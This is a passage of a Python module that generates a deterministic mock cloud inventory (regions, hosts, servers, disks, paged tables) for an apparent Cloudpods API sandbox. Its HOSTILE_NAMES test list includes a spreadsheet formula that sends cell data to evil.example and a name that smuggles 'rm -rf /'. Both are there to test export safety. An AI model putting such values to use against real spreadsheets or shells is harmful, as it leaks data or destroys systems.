"""The sandbox's generated cloud: identity objects, cloud regions, zones, hosts, servers, ...

Everything is deterministic from ``seed``. Large tables (servers, disks) are stored as
columns and turned into records only when a page asks for them, so 1 000 000 servers fit
in memory and a page costs work proportional to the page, not to the inventory.

>>> inv = Inventory(servers=10, seed=1)
>>> inv.tables["servers"].count
10
>>> "vcpu_count" in inv.tables["servers"].column_record(0)   # a column of the guests table
True
"""

from __future__ import annotations

import hashlib
import threading
import time
from collections.abc import Callable, Iterable
from dataclasses import dataclass, field
from datetime import UTC, datetime

import numpy as np

DOMAIN_DEFAULT = "default"
EPOCH_END = int(datetime(2026, 11, 1, tzinfo=UTC).timestamp())
SPAN = 4 * 365 * 86400  # servers were created over four years

CATALOG_REGIONS = ("region0", "region1")
ZONE_REGION = "region1-zone1"

# (name, provider, cloud_env, hypervisor, catalog region, zones, city, weight)
_CLOUDREGIONS = (
    (
        "Default",
        "OneCloud",
        "onpremise",
        "kvm",
        "region0",
        ("zone0", "zone1", "zone2"),
        "Beijing",
        40,
    ),
    (
        "Aliyun/cn-beijing",
        "Aliyun",
        "public",
        "aliyun",
        "region0",
        ("cn-beijing-a", "cn-beijing-h"),
        "Beijing",
        20,
    ),
    (
        "Aliyun/cn-hangzhou",
        "Aliyun",
        "public",
        "aliyun",
        "region0",
        ("cn-hangzhou-b",),
        "Hangzhou",
        10,
    ),
    (
        "AWS/us-east-1",
        "Aws",
        "public",
        "aws",
        "region1",
        ("us-east-1a", "us-east-1b"),
        "Virginia",
        15,
    ),
    (
        "VMware/dc-shanghai",
        "VMware",
        "onpremise",
        "esxi",
        "region1",
        ("sh-cluster1",),
        "Shanghai",
        15,
    ),
)
_STATUSES = (
    "running",
    "ready",
    "deploying",
    "starting",
    "stopping",
    "start_fail",
    "disk_fail",
    "unknown",
    "sched_fail",
    "init",
)
_STATUS_P = (0.64, 0.21, 0.03, 0.01, 0.01, 0.03, 0.03, 0.04, 0.0, 0.0)
_SCHED_FAIL, _INIT = _STATUSES.index("sched_fail"), _STATUSES.index("init")
_POWER = {"running": "on", "ready": "off", "stopping": "on", "starting": "off"}
_HOST_CPU_P = (0.1, 0.1, 0.2, 0.2, 0.2, 0.1, 0.1)
_HOST_MEM_P = (0.1, 0.2, 0.2, 0.25, 0.15, 0.1)
_HOST_STORAGE = 8 * 1024 * 1024  # MB of local storage per host
DUPLICATE_NAME = "dup-name"  # two servers in two projects share it (real GET: 500)
EXAMPLE_NAME = "web-prod-0000001"  # one placed server every inventory has (docs use it)
_VCPUS = (1, 2, 4, 8, 16, 32)
_VCPU_P = (0.10, 0.30, 0.30, 0.18, 0.09, 0.03)
_MEM_PER_CPU = (1024, 2048, 4096)
_OS = (
    ("Linux", "CentOS 7.9"),
    ("Linux", "Ubuntu 22.04"),
    ("Linux", "Debian 12"),
    ("Linux", "Rocky Linux 9"),
    ("Windows", "Windows Server 2019"),
)
_PREFIXES = (
    "web",
    "api",
    "db",
    "cache",
    "worker",
    "batch",
    "ml",
    "ci",
    "mq",
    "lb",
    "es",
    "k8s-node",
)
_ENVS = ("prod", "staging", "dev", "test")
_OWNERS = ("alice", "bob", "carol", "dan", "erin", "frank")
_PROJECTS = (  # name, domain, weight of servers
    ("system", DOMAIN_DEFAULT, 20),
    ("ops", DOMAIN_DEFAULT, 12),
    ("web", DOMAIN_DEFAULT, 18),
    ("data", DOMAIN_DEFAULT, 14),
    ("ml-research", DOMAIN_DEFAULT, 10),
    ("qa", DOMAIN_DEFAULT, 8),
    ("finance", "corp", 10),
    ("marketing", "corp", 8),
)
# Names and tags as tenants really write them: a CSV or a spreadsheet must survive them.
HOSTILE_NAMES = (
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+SUM(1,2)",
    "-2+3",
    "@import",
    'web, "prod", primary',
    "db-line1\nline2",
    "测试服务器-北京",
    "\tindented",
    "app;rm -rf /",
    "caché-naïve-ünïcode",
)


def utc_now() -> float:
    """The sandbox's clock, seconds since the epoch; tests may replace it to pin the time."""
    return time.time()


def fmt_time(ts: int | float) -> str:
    """Format epoch seconds as Cloudpods record time ``YYYY-MM-DDTHH:MM:SS.000000Z``."""
    return datetime.fromtimestamp(int(ts), UTC).strftime("%Y-%m-%dT%H:%M:%S.000000Z")


def make_id(seed: int, kind: str, i: int, *, dashed: bool = True) -> str:
    """A deterministic id: a UUID for region objects, 32 hex digits for keystone ones."""
    h = hashlib.blake2b(f"{seed}/{kind}/{i}".encode(), digest_size=16).hexdigest()
    if not dashed:
        return h
    h = h[:12] + "4" + h[13:16] + "89ab"[int(h[16], 16) % 4] + h[17:]
    return f"{h[:8]}-{h[8:12]}-{h[12:16]}-{h[16:20]}-{h[20:]}"


@dataclass
class Table:
    """One listable resource: a count, a record builder and the columns queries need.

    ``owner`` holds the owning project index per row (``None`` for rows not owned by a
    project), ``region`` the catalog region per row, ``created`` epoch seconds per row.
    ``columns`` names the resource's table columns (what ``details=false`` returns and the
    only fields ``filter=``/``order_by=`` act on); without it they are the keys of the first
    record minus ``detail_fields``. ``row`` builds the columns of a row alone (cheaper than
    the full record, used to filter and sort); ``ident`` gives a row's (id, name) cheaply.
    ``deps`` are tables whose changes change this one's records (hosts follow servers,
    servers their hosts). Rows can be patched, deleted and created while the sandbox serves
    (``version`` changes on every mutation so cached query results are dropped); a deleted
    row stays, marked, for ``delete=all`` (``deleted`` holds the soft-deleted rows).
    """

    keyword: str
    plural: str
    count: int
    build: Callable[[int], dict]
    created: list[int]
    region: list[str] | None = None
    owner: list[int] | None = None
    owner_kind: str = "project"  # project, domain, system or shared
    detail_fields: frozenset[str] = frozenset()
    searchable: tuple[str, ...] = ("name",)
    meta: Callable[[int], dict] | None = None
    marker_paged: bool = False
    always_counts: bool = (
        False  # role_assignments: offset and total even when 0 (cloudpods-api.md §8.2 D4)
    )
    columns: frozenset[str] | None = None
    row: Callable[[int], dict] | None = None
    ident: Callable[[int], tuple[str, str]] | None = None
    fields: Callable[[str], Callable[[int], object] | None] | None = None
    deps: tuple[Table, ...] = ()
    list_hidden: frozenset[str] = frozenset()  # fields a single GET shows and lists do not
    orderable: frozenset[str] = frozenset()  # computed fields order_by accepts besides columns
    system_row: Callable[[int], bool] | None = None  # hidden unless system=true
    version: int = 0
    patches: dict[int, dict] = field(default_factory=dict)
    deleted: set[int] = field(default_factory=set)
    lock: threading.RLock = field(default_factory=threading.RLock, repr=False)
    _by_id: dict[str, int] | None = field(default=None, repr=False)
    _by_name: dict[str, list[int]] | None = field(default=None, repr=False)
    _columns: frozenset[str] | None = field(default=None, repr=False)

    def __post_init__(self) -> None:
        self._base_count = self.count

    @property
    def base_count(self) -> int:
        """Rows generated at start (rows from ``base_count`` on were created later)."""
        return self._base_count

    def stamp(self) -> tuple[int, ...]:
        """Changes whenever a record of this table may have changed (own or deps' mutations)."""
        return (self.version, *(d.version for d in self.deps))

    def record(self, i: int) -> dict:
        """The full (details=true) record of row ``i``, patches applied."""
        patch = self.patches.get(i)
        if i >= self._base_count:
            return dict(patch or {})
        rec = self.build(i)
        if patch:
            rec.update(patch)
            for k in [k for k, v in patch.items() if v is None]:
                del rec[k]
        return rec

    def column_record(self, i: int) -> dict:
        """The table columns of row ``i`` (what filters and sorts see), patches applied."""
        if self.row is None or i >= self._base_count:
            return self.record(i)
        rec = self.row(i)
        patch = self.patches.get(i)
        if patch:
            rec.update(patch)
            for k in [k for k, v in patch.items() if v is None]:
                del rec[k]
        return rec

    def getter(self, name: str) -> tuple[Callable[[int], object], bool]:
        """``(row → value of field name, native)``: native getters skip building records."""
        native = self.fields(name) if self.fields is not None else None
        build = self.column_record if name in self.column_names() else self.record
        if native is None:
            return (lambda i: build(i).get(name)), False
        patches, base = self.patches, self._base_count

        def get(i: int) -> object:
            if i in patches or i >= base:
                return build(i).get(name)
            return native(i)

        return get, True

    def column_names(self) -> frozenset[str]:
        if self.columns is not None:
            return self.columns
        if self._columns is None:
            sample = self.record(0) if self.count else {}
            self._columns = frozenset(sample) - self.detail_fields
        return self._columns

    def metadata(self, i: int) -> dict:
        patch = self.patches.get(i, {})
        if "metadata" in patch:
            return dict(patch["metadata"] or {})
        return self.meta(i) if self.meta and i < self._base_count else {}

    def live_rows(self) -> list[int]:
        """Indices of rows that exist now, in index order."""
        if not self.deleted:
            return list(range(self.count))
        return [i for i in range(self.count) if i not in self.deleted]

    def _index(self) -> tuple[dict[str, int], dict[str, list[int]]]:
        with self.lock:
            if self._by_id is None or self._by_name is None:
                by_id: dict[str, int] = {}
                by_name: dict[str, list[int]] = {}
                for i in range(self.count):
                    if self.ident is not None and i < self._base_count and i not in self.patches:
                        rid, name = self.ident(i)
                    else:
                        rec = self.record(i)
                        rid, name = str(rec.get("id")), str(rec.get("name"))
                    by_id[rid] = i
                    by_name.setdefault(_name_key(name), []).append(i)
                self._by_id, self._by_name = by_id, by_name
            return self._by_id, self._by_name

    def find_id(self, key: str, *, deleted: bool = False) -> int | None:
        """Row index of the live row with id ``key`` (or of a deleted one, with ``deleted``)."""
        i = self._index()[0].get(key)
        return None if i is None or (i in self.deleted and not deleted) else i

    def find_name(self, key: str, *, deleted: bool = False) -> list[int]:
        """Live rows named ``key`` (names compare as MySQL's collation does); with
        ``deleted``, the deleted ones too."""
        rows = self._index()[1].get(_name_key(key), ())
        return [i for i in rows if deleted or i not in self.deleted]

    def find(self, key: str) -> int | None:
        """Row index by id or name (id first, as Cloudpods does; the first of equal names)."""
        i = self.find_id(key)
        if i is not None:
            return i
        named = self.find_name(key)
        return named[0] if named else None

    # mutations, used by tests (drift) and by the demo (snapshot diffs)
    def patch(self, i: int, **fields: object) -> None:
        with self.lock:
            self.patches.setdefault(i, {}).update(fields)
            self._touch()

    def change(self, i: int, **fields: object) -> None:
        """Change row ``i`` as Cloudpods' ORM does (sqlchemy ``Update``): ``updated_at`` becomes
        now, truncated to the second (a MariaDB DATETIME), and ``update_version`` goes up by
        one, even when no value changes (cloudpods-api.md §10); then ``fields`` apply, so an
        ``updated_at`` given here wins (a change made in the database keeps its old time).
        Rows without ``updated_at`` (log tables) get none."""
        with self.lock:
            rec, stamp = self.column_record(i), {}
            if "updated_at" in rec:
                version = int(rec.get("update_version") or 0)  # type: ignore[call-overload]
                stamp = {"updated_at": fmt_time(utc_now()), "update_version": version + 1}
            self.patch(i, **{**stamp, **fields})

    def delete(self, i: int) -> None:
        """Soft-delete row ``i``: ``deleted`` true and ``deleted_at`` one second after the new
        ``updated_at``, as the real row showed (Go rounds deleted_at to the second where the
        ORM truncates updated_at, cloudpods-api.md §10). The row stays for ``delete=all``."""
        with self.lock:
            now = int(utc_now())
            self.change(i, updated_at=fmt_time(now), deleted=True, deleted_at=fmt_time(now + 1))
            self.deleted.add(i)
            self._touch()

    def create(self, rec: dict, *, owner: int | None = None, region: str | None = None) -> int:
        with self.lock:
            i = self.count
            self.patches[i] = dict(rec)
            self.count += 1
            self.created.append(int(utc_now()))
            if self.owner is not None:
                self.owner.append(owner if owner is not None else 0)
            if self.region is not None:
                self.region.append(region or CATALOG_REGIONS[0])
            self._touch()
            return i

    def _touch(self) -> None:
        self.version += 1
        self._by_id = self._by_name = None


def _name_key(name: str) -> str:
    return name.lower().rstrip(" ")


@dataclass(frozen=True)
class Project:
    id: str
    name: str
    domain_id: str


@dataclass(frozen=True)
class User:
    id: str
    name: str
    password: str = field(repr=False)
    domain_id: str
    project_roles: tuple[tuple[int, str], ...]  # (project index, role name)
    audit_id: str


class Inventory:
    """The whole generated cloud. ``tables`` maps plural names to :class:`Table`."""

    def __init__(self, servers: int = 1000, seed: int = 0) -> None:
        self.seed = seed
        self.n_servers = int(servers)
        self.rng = np.random.default_rng(seed)
        self.domains = [
            {"id": DOMAIN_DEFAULT, "name": "Default", "description": "The default domain"},
            {
                "id": make_id(seed, "domain", 1, dashed=False),
                "name": "corp",
                "description": "Corporate tenants",
            },
        ]
        self._domain_by_name = {"corp": self.domains[1]["id"]}
        self.projects = [
            Project(make_id(seed, "project", i, dashed=False), name, self._domain_id(dom))
            for i, (name, dom, _w) in enumerate(_PROJECTS)
        ]
        self.roles = [
            {"id": make_id(seed, "role", 0, dashed=False), "name": "admin"},
            {"id": make_id(seed, "role", 1, dashed=False), "name": "member"},
        ]
        self.users: list[User] = []
        self.tables: dict[str, Table] = {}
        self._build_compute()

    # -- identity ------------------------------------------------------------------
    def _domain_id(self, name: str) -> str:
        return DOMAIN_DEFAULT if name == DOMAIN_DEFAULT else self._domain_by_name[name]

    def domain_name(self, domain_id: str) -> str:
        return next((d["name"] for d in self.domains if d["id"] == domain_id), domain_id)

    def add_user(self, name: str, password: str, roles: Iterable[tuple[str, str]]) -> User:
        """Create a user with (project name, role name) assignments."""
        idx = len(self.users)
        pr = tuple((self.project_index(p), r) for p, r in roles)
        user = User(
            make_id(self.seed, "user", idx, dashed=False),
            name,
            password,
            DOMAIN_DEFAULT,
            pr,
            str(idx + 1),
        )
        self.users.append(user)
        return user

    def project_index(self, key: str) -> int:
        for i, p in enumerate(self.projects):
            if key in (p.id, p.name):
                return i
        raise KeyError(key)

    # -- compute ---------------------------------------------------------------------
    def _build_compute(self) -> None:
        seed, rng, n = self.seed, self.rng, self.n_servers
        t0 = EPOCH_END - SPAN - 86400 * 30

        # cloud regions and zones
        cregions, zones = [], []
        for ci, (name, provider, env, hyper, creg, znames, city, _w) in enumerate(_CLOUDREGIONS):
            cid = "default" if ci == 0 else make_id(seed, "cloudregion", ci)
            cregions.append(
                dict(
                    id=cid,
                    name=name,
                    provider=provider,
                    brand="OneCloud" if provider == "OneCloud" else provider,
                    cloud_env=env,
                    hypervisor=hyper,
                    catalog_region=creg,
                    city=city,
                    idx=ci,
                )
            )
            for zn in znames:
                zones.append(dict(id=make_id(seed, "zone", len(zones)), name=zn, cr=ci))
        self.cloudregions, self.zones = cregions, zones

        # wires, vpcs, networks: one vpc per cloud region, one wire and two networks per zone
        vpcs = [
            dict(
                id="default" if c["idx"] == 0 else make_id(seed, "vpc", c["idx"]),
                name="Default" if c["idx"] == 0 else f"vpc-{c['name'].split('/')[-1]}",
                cr=c["idx"],
                cidr=f"10.{c['idx']}.0.0/16",
            )
            for c in cregions
        ]
        wires, networks = [], []
        for zi, z in enumerate(zones):
            wires.append(dict(id=make_id(seed, "wire", zi), name=f"wire-{z['name']}", zone=zi))
            for k in range(2):
                ni = len(networks)
                networks.append(
                    dict(
                        id=make_id(seed, "network", ni),
                        name=f"net-{z['name']}-{k}",
                        zone=zi,
                        wire=zi,
                        prefix=f"10.{z['cr']}.{(zi * 2 + k) % 250}",
                        public=(k == 0),
                    )
                )
        self.vpcs, self.wires, self.networks = vpcs, wires, networks

        # hosts: weighted over zones by cloud region weight; sizes and load vary, so that
        # some hosts end up over-committed (commit rate above the bound) as in real regions
        zone_w = np.array(
            [_CLOUDREGIONS[z["cr"]][7] / len(_CLOUDREGIONS[z["cr"]][5]) for z in zones], float
        )
        zone_w /= zone_w.sum()
        n_hosts = max(len(zones) * 2, n // 40)
        host_zone = np.sort(rng.choice(len(zones), size=n_hosts, p=zone_w))
        host_cpu = rng.choice([16, 24, 32, 48, 64, 96, 128], size=n_hosts, p=_HOST_CPU_P)
        host_mem = rng.choice(
            [131072, 262144, 393216, 524288, 786432, 1048576], size=n_hosts, p=_HOST_MEM_P
        )
        host_created = t0 + np.sort(rng.integers(0, 86400 * 60, n_hosts)) + np.arange(n_hosts)
        host_load = rng.lognormal(0.0, 0.6, n_hosts)
        self.host_zone = host_zone.tolist()
        self.host_cpu = host_cpu.tolist()
        self.host_mem = host_mem.tolist()
        self.host_mem_reserved = np.where(rng.random(n_hosts) < 0.4, 8192, 0).tolist()
        self.host_cpu_bound = np.where(rng.random(n_hosts) < 0.85, 8, 4).tolist()
        self.host_mem_bound = np.where(rng.random(n_hosts) < 0.7, 1.0, 1.5).tolist()

        # servers, as columns
        host = rng.choice(n_hosts, size=n, p=host_load / host_load.sum())
        status = rng.choice(len(_STATUSES), size=n, p=_STATUS_P)
        # a few servers were never scheduled: no host, no zone (sched_fail, a few init)
        unplaced = rng.random(n) < 0.012
        status = np.where(unplaced, np.where(rng.random(n) < 0.75, _SCHED_FAIL, _INIT), status)
        vcpu = np.array(_VCPUS)[rng.choice(len(_VCPUS), size=n, p=_VCPU_P)]
        vmem = vcpu * np.array(_MEM_PER_CPU)[rng.integers(0, 3, n)]
        sysdisk = rng.choice([30720, 40960, 51200, 102400], size=n)
        datadisk = np.where(
            rng.random(n) < 0.35, rng.choice([102400, 204800, 512000, 1048576], size=n), 0
        )
        proj_w = np.array([w for _n, _d, w in _PROJECTS], float)
        owner = rng.choice(len(_PROJECTS), size=n, p=proj_w / proj_w.sum())
        created = (EPOCH_END - SPAN) + np.sort(rng.integers(0, max(SPAN - n, 1), n)) + np.arange(n)
        updated = np.minimum(created + rng.integers(60, 86400 * 200, n), EPOCH_END + 86400 * 20)
        os_i = rng.integers(0, len(_OS), n)
        prefix = rng.integers(0, len(_PREFIXES), n)
        env = rng.integers(0, len(_ENVS), n)
        who = rng.integers(0, len(_OWNERS), n)
        net_k = rng.integers(0, 2, n)
        gpu = rng.random(n) < 0.03
        extra = rng.random(n)  # description, prepaid billing and metadata come and go
        self.server_host = host.tolist()
        server_created = created.tolist()
        server_owner = owner.tolist()
        server_region = [
            cregions[zones[self.host_zone[h]]["cr"]]["catalog_region"] for h in self.server_host
        ]
        # the newest server of each catalog region is one the scheduler failed to place
        newest: dict[str, int] = {}
        for i, r in enumerate(server_region):
            newest[r] = i
        for i in newest.values():
            unplaced[i] = True
            status[i] = _SCHED_FAIL
        self.server_cols = dict(
            status=status.tolist(),
            placed=(~unplaced).tolist(),
            vcpu=vcpu.tolist(),
            vmem=vmem.tolist(),
            sysdisk=sysdisk.tolist(),
            datadisk=datadisk.tolist(),
            os=os_i.tolist(),
            prefix=prefix.tolist(),
            env=env.tolist(),
            who=who.tolist(),
            net=net_k.tolist(),
            gpu=gpu.tolist(),
            updated=updated.tolist(),
            described=(extra < 0.3).tolist(),
            prepaid=((extra > 0.55) & (extra < 0.65)).tolist(),
            tagged=((extra > 0.2) & (extra < 0.7)).tolist(),
        )
        # hostile names go to servers of the first catalog region, which demos and tests list
        home = [i for i, r in enumerate(server_region) if r == CATALOG_REGIONS[0]]
        picks = (
            rng.choice(len(home), size=min(len(home), len(HOSTILE_NAMES)), replace=False)
            if home
            else []
        )
        self.hostile = {home[int(k)]: HOSTILE_NAMES[j] for j, k in enumerate(picks)}
        # two placed servers of different projects share a name (one in project "system"):
        # GET /servers/<that name> is the real 500 "duplicate entry"
        self.duplicates: dict[int, str] = {}  # fixed names: the shared one, and the example
        spare = [i for i in home if i not in self.hostile and not unplaced[i]]
        first_sys = next((i for i in spare if server_owner[i] == 0), None)
        other = next((i for i in spare if server_owner[i] != 0), None)
        if first_sys is not None and other is not None:
            self.duplicates = {first_sys: DUPLICATE_NAME, other: DUPLICATE_NAME}
        # the server the README and --help show by name: placed, in project system, region0
        example = next(
            (i for i in spare if server_owner[i] == 0 and i not in self.duplicates), None
        )
        if example is not None:
            self.duplicates[example] = EXAMPLE_NAME
        self._server_created = server_created
        self._server_owner = server_owner
        self._usage: tuple[int, dict[str, list]] | None = None
        self._usage_lock = threading.Lock()
        self._host_ids = {make_id(seed, "host", h): h for h in range(n_hosts)}
        host_status = np.where(rng.random(n_hosts) < 0.03, 1, 0).tolist()

        self._table(
            "cloudregions",
            "cloudregion",
            len(cregions),
            self._cloudregion,
            [t0 + c["idx"] for c in cregions],
            region=[c["catalog_region"] for c in cregions],
            owner_kind="system",
            detail_fields={
                "can_delete",
                "can_update",
                "zone_count",
                "vpc_count",
                "guest_count",
                "network_count",
            },
        )
        self._table(
            "zones",
            "zone",
            len(zones),
            self._zone,
            [t0 + 10 + i for i in range(len(zones))],
            region=[self._zone_region(i) for i in range(len(zones))],
            owner_kind="system",
            detail_fields={
                "can_delete",
                "can_update",
                "cloudregion",
                "provider",
                "brand",
                "cloud_env",
                "hosts",
                "hosts_enabled",
                "baremetals",
                "baremetals_enabled",
                "wires",
                "networks",
                "storages",
            },
        )
        self._table(
            "vpcs",
            "vpc",
            len(vpcs),
            self._vpc,
            [t0 + 20 + i for i in range(len(vpcs))],
            region=[cregions[v["cr"]]["catalog_region"] for v in vpcs],
            owner_kind="domain",
            detail_fields={
                "can_delete",
                "can_update",
                "cloudregion",
                "wire_count",
                "network_count",
            },
        )
        self._table(
            "wires",
            "wire",
            len(wires),
            self._wire,
            [t0 + 40 + i for i in range(len(wires))],
            region=[self._zone_region(w["zone"]) for w in wires],
            owner_kind="domain",
            detail_fields={"can_delete", "can_update", "zone", "vpc", "cloudregion", "networks"},
        )
        self._table(
            "networks",
            "network",
            len(networks),
            self._network,
            [t0 + 80 + i for i in range(len(networks))],
            region=[self._zone_region(x["zone"]) for x in networks],
            owner=[0] * len(networks),
            owner_kind="shared",
            detail_fields={
                "can_delete",
                "can_update",
                "wire",
                "vpc",
                "vpc_id",
                "zone",
                "zone_id",
                "tenant",
                "ports",
                "ports_used",
                "vnics",
                "total",
            },
        )
        self._host_status = host_status
        self._table(
            "hosts",
            "host",
            n_hosts,
            self._host,
            host_created.tolist(),
            region=[self._zone_region(z) for z in self.host_zone],
            owner_kind="domain",
            detail_fields=_HOST_DETAIL_FIELDS,
            list_hidden=frozenset({"cpu_mhz", "cpu_cache"}),
            # hosts.go sorts by these computed rates specially (OrderByCpuCommitRate, ...)
            orderable=frozenset({"cpu_commit_rate", "mem_commit_rate", "storage_commit_rate"}),
        )
        self._table(
            "storages",
            "storage",
            n_hosts,
            self._storage,
            (host_created + 5).tolist(),
            region=[self._zone_region(z) for z in self.host_zone],
            owner_kind="domain",
            detail_fields={
                "can_delete",
                "can_update",
                "zone",
                "cloudregion",
                "used_capacity",
                "free_capacity",
                "hosts",
                "disk_count",
            },
        )
        self._table(
            "servers",
            "server",
            n,
            self._server,
            server_created,
            region=server_region,
            owner=server_owner,
            detail_fields=frozenset(),
            columns=SERVER_COLUMNS,
            row=self._server_columns,
            ident=self._server_ident,
            fields=self._server_field,
            searchable=("name",),
            meta=self._server_meta,
        )
        servers = self.tables["servers"]
        for plural in ("hosts", "storages"):  # capacity figures follow the servers
            self.tables[plural].deps = (servers,)
        servers.deps = (self.tables["hosts"],)  # and servers' records join their hosts
        placed = self.server_cols["placed"]
        # disks belong to placed servers (an unscheduled server got no storage)
        data_disk_server = [s for s in np.flatnonzero(datadisk).tolist() if placed[s]]
        sys_disk_server = [s for s in range(n) if placed[s]]
        disk_server = sys_disk_server + data_disk_server
        disk_created = [server_created[s] for s in sys_disk_server] + [
            server_created[s] + 30 for s in data_disk_server
        ]
        disk_order = sorted(range(len(disk_server)), key=disk_created.__getitem__)
        # row j of the disks table: (server, is a data disk)
        self._disk_rows = [(disk_server[k], k >= len(sys_disk_server)) for k in disk_order]
        self._table(
            "disks",
            "disk",
            len(disk_order),
            self._disk,
            [disk_created[k] for k in disk_order],
            region=[server_region[s] for s, _d in self._disk_rows],
            owner=[server_owner[s] for s, _d in self._disk_rows],
            detail_fields={
                "can_delete",
                "can_update",
                "storage",
                "storage_type",
                "medium_type",
                "guest",
                "guests",
                "guest_count",
                "guest_status",
                "zone",
                "cloudregion",
                "tenant",
                "project",
                "project_domain",
            },
        )
        n_eips = max(1, n // 20)
        placed_ids = [s for s in range(n) if placed[s]]
        self._eip_server = (
            sorted(
                rng.choice(placed_ids, size=min(len(placed_ids), n_eips), replace=False).tolist()
            )
            if placed_ids
            else []
        )
        self._table(
            "eips",
            "eip",
            len(self._eip_server),
            self._eip,
            [server_created[s] + 60 for s in self._eip_server],
            region=[server_region[s] for s in self._eip_server],
            owner=[server_owner[s] for s in self._eip_server],
            detail_fields={
                "can_delete",
                "can_update",
                "associate_name",
                "cloudregion",
                "tenant",
                "project",
                "project_domain",
            },
        )
        self._table(
            "secgroups",
            "secgroup",
            12,
            self._secgroup,
            [t0 + 100 + i for i in range(12)],
            region=[CATALOG_REGIONS[i % 2] for i in range(12)],
            owner=[i % len(_PROJECTS) for i in range(12)],
            detail_fields={"can_delete", "can_update", "guest_cnt", "tenant", "project"},
        )
        skus = [(c, m) for c in _VCPUS for m in _MEM_PER_CPU]
        self._skus = skus
        self._table(
            "serverskus",
            "serversku",
            len(skus) * 2,
            self._sku,
            [t0 + 200 + i for i in range(len(skus) * 2)],
            region=[CATALOG_REGIONS[i // len(skus)] for i in range(len(skus) * 2)],
            owner_kind="system",
            detail_fields={"can_delete", "can_update", "cloudregion", "zone"},
        )
        n_events = min(max(n, 10), 5000)
        ev_server = rng.integers(0, max(n, 1), n_events).tolist()
        self._event_server = ev_server
        self._table(
            "events",
            "event",
            n_events,
            self._event,
            sorted((EPOCH_END - 86400 * 30 + rng.integers(0, 86400 * 30, n_events)).tolist()),
            region=[server_region[s] if n else CATALOG_REGIONS[0] for s in ev_server],
            owner=[server_owner[s] if n else 0 for s in ev_server],
            marker_paged=True,
            detail_fields={"can_delete", "can_update", "tenant", "project", "domain"},
        )
        self._table(
            "actions",
            "action",
            min(max(n, 10), 3000),
            self._action,
            sorted(
                (
                    EPOCH_END - 86400 * 30 + rng.integers(0, 86400 * 30, min(max(n, 10), 3000))
                ).tolist()
            ),
            region=[CATALOG_REGIONS[0]] * min(max(n, 10), 3000),
            owner=[i % len(_PROJECTS) for i in range(min(max(n, 10), 3000))],
            marker_paged=True,
            detail_fields={"can_delete", "can_update"},
        )
        accounts = [c for c in cregions if c["provider"] != "OneCloud"]
        self._accounts = accounts
        for plural, keyword in (
            ("cloudaccounts", "cloudaccount"),
            ("cloudproviders", "cloudprovider"),
        ):
            self._table(
                plural,
                keyword,
                len(accounts),
                lambda i, k=keyword: self._account(k, i),
                [t0 + 300 + i for i in range(len(accounts))],
                region=[a["catalog_region"] for a in accounts],
                owner_kind="domain",
                detail_fields={"can_delete", "can_update"},
            )
        for plural, keyword in (
            ("snapshots", "snapshot"),
            ("isolated_devices", "isolated_device"),
            ("keypairs", "keypair"),
        ):
            self._table(plural, keyword, 0, dict, [], region=[], owner=[])
        self._table(
            "images",
            "image",
            len(_OS) * 3,
            self._image,
            [t0 - 86400 * 10 + i for i in range(len(_OS) * 3)],
            region=[CATALOG_REGIONS[0]] * (len(_OS) * 3),
            owner=[0] * (len(_OS) * 3),
            owner_kind="shared",
            detail_fields={"can_delete", "can_update", "tenant", "project", "properties"},
        )

    def _table(
        self,
        plural: str,
        keyword: str,
        count: int,
        build: Callable[[int], dict],
        created: list[int],
        **kw: object,
    ) -> None:
        kw["detail_fields"] = frozenset(kw.get("detail_fields") or ())
        self.tables[plural] = Table(keyword, plural, count, build, list(created), **kw)  # type: ignore[arg-type]

    def _zone_region(self, zi: int) -> str:
        z = self.zones[zi]
        creg = self.cloudregions[z["cr"]]["catalog_region"]
        return creg

    # -- record builders (details=true; lists.py drops detail fields for details=false) --
    def _base(self, table: str, i: int) -> dict:
        created = self.tables[table].created[i] if table in self.tables else 0
        return {
            "created_at": fmt_time(created),
            "updated_at": fmt_time(created + 3600),
            "deleted": False,
            "can_delete": False,
            "can_update": True,
            "update_version": 1,
            "is_emulated": False,
        }

    def _owned(self, rec: dict, p: int) -> dict:
        proj = self.projects[p]
        rec.update(
            tenant=proj.name,
            tenant_id=proj.id,
            project=proj.name,
            domain_id=proj.domain_id,
            project_domain=self.domain_name(proj.domain_id),
            project_src="local",
        )
        return rec

    def _cloudregion(self, i: int) -> dict:
        c = self.cloudregions[i]
        rec = self._base("cloudregions", i)
        rec.update(
            id=c["id"],
            name=c["name"],
            status="inservice",
            enabled=True,
            provider=c["provider"],
            brand=c["brand"],
            cloud_env=c["cloud_env"],
            environment=c["name"].split("/")[-1],
            city=c["city"],
            country_code="US" if c["provider"] == "Aws" else "CN",
            _i18n={},
            zone_count=sum(1 for z in self.zones if z["cr"] == i),
            vpc_count=1,
            guest_count=0,
            network_count=sum(2 for z in self.zones if z["cr"] == i),
            latitude=round(30 + i * 1.7, 4),
            longitude=round(116 - i * 3.1, 4),
            description=f"{c['name']} region",
        )
        if i:
            rec["external_id"] = c["name"].split("/")[-1]
        return rec

    def _zone(self, i: int) -> dict:
        z = self.zones[i]
        c = self.cloudregions[z["cr"]]
        hosts = sum(1 for h in self.host_zone if h == i)
        rec = self._base("zones", i)
        rec.update(
            id=z["id"],
            name=z["name"],
            status="enable",
            **_placement(c),
            _i18n={},
            hosts=hosts,
            hosts_enabled=hosts,
            baremetals=0,
            baremetals_enabled=0,
            wires=1,
            networks=2,
            storages=hosts,
        )
        return rec

    def _vpc(self, i: int) -> dict:
        v = self.vpcs[i]
        c = self.cloudregions[v["cr"]]
        rec = self._base("vpcs", i)
        rec.update(
            id=v["id"],
            name=v["name"],
            status="available",
            cidr_block=v["cidr"],
            **_placement(c),
            is_default=True,
            wire_count=sum(1 for z in self.zones if z["cr"] == v["cr"]),
            network_count=2 * sum(1 for z in self.zones if z["cr"] == v["cr"]),
            domain_id=DOMAIN_DEFAULT,
            public_scope="system",
            is_public=True,
        )
        return rec

    def _wire(self, i: int) -> dict:
        w = self.wires[i]
        z = self.zones[w["zone"]]
        v = self.vpcs[z["cr"]]
        c = self.cloudregions[z["cr"]]
        rec = self._base("wires", i)
        rec.update(
            id=w["id"],
            name=w["name"],
            status="available",
            bandwidth=10000,
            mtu=1500,
            zone_id=z["id"],
            zone=z["name"],
            vpc_id=v["id"],
            vpc=v["name"],
            cloudregion_id=c["id"],
            cloudregion=c["name"],
            networks=2,
            domain_id=DOMAIN_DEFAULT,
            brand=c["brand"],
            cloud_env=c["cloud_env"],
        )
        return rec

    def _network(self, i: int) -> dict:
        x = self.networks[i]
        z = self.zones[x["zone"]]
        v = self.vpcs[z["cr"]]
        w = self.wires[x["wire"]]
